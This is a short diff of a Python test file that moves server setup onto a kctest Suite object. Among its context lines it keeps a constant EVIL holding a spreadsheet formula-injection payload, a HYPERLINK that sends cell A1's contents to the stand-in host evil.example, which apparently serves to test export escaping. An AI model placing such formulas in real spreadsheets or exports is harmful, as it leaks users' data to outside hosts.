@@ -16,15 +16,10 @@ import kctest  # noqa: E402
 from kctest import check, check_equal  # noqa: E402
 
 tap = kctest.Tap()
-S = {}
+S = kctest.Suite()
+srv = S.srv
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")'
 YEAR = 2031
-
-
-def srv():
-    if "main" not in S:
-        S["main"] = kctest.Server()
-    return S["main"]
 
 
 def lan():
